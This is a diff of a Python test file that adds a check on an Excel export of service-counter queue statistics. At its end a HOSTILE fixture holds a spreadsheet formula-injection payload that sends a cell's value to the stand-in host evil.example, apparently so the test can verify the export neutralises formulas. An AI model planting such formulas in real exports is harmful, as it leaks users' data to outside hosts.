@@ -157,6 +157,45 @@ async def test_the_one_window_export_meets_the_standards(demo_client):
     await logout(demo_client)
 
 
+async def test_the_hall_sheets_read_back_with_the_figures_of_known_tickets(client, db):
+    """Five tickets of October 2026 with known times (tests/support/hall.py works the numbers out)."""
+    from tests.support.hall_month import MONTH, known_hall_month
+
+    hall = await known_hall_month(db)
+    await login(client, hall["manager"]["username"])
+    response = await client.get(f"/counter/stats/export.xlsx?month={MONTH}")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    sheet = check_sheet(book["取号叫号"])
+    h = sheet["header"]
+    rows = {(r[h["分组"]], r[h["名称"]]): r for r in sheet["body"]}
+
+    def figures(row) -> tuple:
+        return tuple(row[h[c]] for c in ("取号", "叫号", "办结", "过号", "过号率(%)", "优先号", "优先号占比(%)",
+                                         "等候中位数(分钟)", "等候90%分位(分钟)", "办理中位数(分钟)",
+                                         "办理90%分位(分钟)"))
+
+    assert figures(sheet["total"]) == (5, 5, 4, 1, 20.0, 2, 40.0, 8.0, 16.8, 5.5, 8.8)
+    assert figures(rows[("队列", "A 社保医保")]) == (3, 3, 2, 1, 33.3, 0, 0.0, 8.0, 11.2, 8.0, 9.6)
+    assert figures(rows[("队列", "B 民政老龄")])[:3] == (2, 2, 2)
+    assert figures(rows[("窗口", "1号窗口")])[7:9] == (4.0, 7.2)
+    assert figures(rows[("社工", "李华")])[7:9] == (16.0, 19.2)
+    assert figures(rows[("时段", "09:00–09:59")]) == figures(rows[("队列", "A 社保医保")])
+    assert figures(rows[("时段", "08:00–08:59")]) == (0, 0, 0, 0, None, 0, None, None, None, None, None)
+    assert [k[1] for k in rows if k[0] == "时段"][0] == "08:00–08:59" and len([k for k in rows if k[0] == "时段"]) == 11
+    # Each ticket counts once per grouping: the queues' and the hours' tickets add up to the period's.
+    for group in ("队列", "时段"):
+        assert sum(r[h["取号"]] for k, r in rows.items() if k[0] == group) == 5, group
+
+    daily = check_sheet(book["取号每日"], date_columns=("日期",))
+    assert len(daily["body"]) == 31  # every day of October, empty ones too
+    counted = {r[0].date(): r[1] for r in daily["body"] if r[1]}
+    assert counted == {date(2026, 10, 12): 4, date(2026, 10, 13): 1} and daily["total"][1] == 5
+    notes = {r[0]: r[1] for r in check_sheet(book["汇总"])["body"]}
+    assert notes["过号率口径"] == "过号 ÷ 叫号"
+    await logout(client)
+
+
 HOSTILE = {
     "item": '=HYPERLINK("http://evil.example/x?"&C2,"打开")',
     "resident": "=1+2",
